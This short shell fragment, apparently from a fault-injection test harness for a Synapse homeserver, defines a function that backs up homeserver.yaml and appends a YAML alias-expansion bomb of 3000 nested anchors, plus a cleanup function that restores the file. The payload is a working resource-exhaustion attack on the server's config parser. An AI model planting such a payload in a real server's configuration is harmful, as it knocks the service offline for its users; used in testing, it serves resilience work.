# Synapse's user lets homeserver.yaml grow by aliases of aliases.
strike() {
  in_synapse python3 - <<'PYTHON'
import shutil
shutil.copy2("/data/homeserver.yaml", "/data/.homeserver.kept")
with open("/data/homeserver.yaml", "a") as file:
    file.write("a0: &a0 [1]\n")
    for k in range(1, 3000):
        file.write(f"a{k}: &a{k} [{', '.join([f'*a{k - 1}'] * 9)}]\n")
    file.write("experimental_features:\n  <<: [" + ", ".join(f"*a{k}" for k in range(0, 3000)) + "]\n")
PYTHON
}
clean() { in_synapse sh -c 'cat /data/.homeserver.kept > /data/homeserver.yaml && rm /data/.homeserver.kept'; }
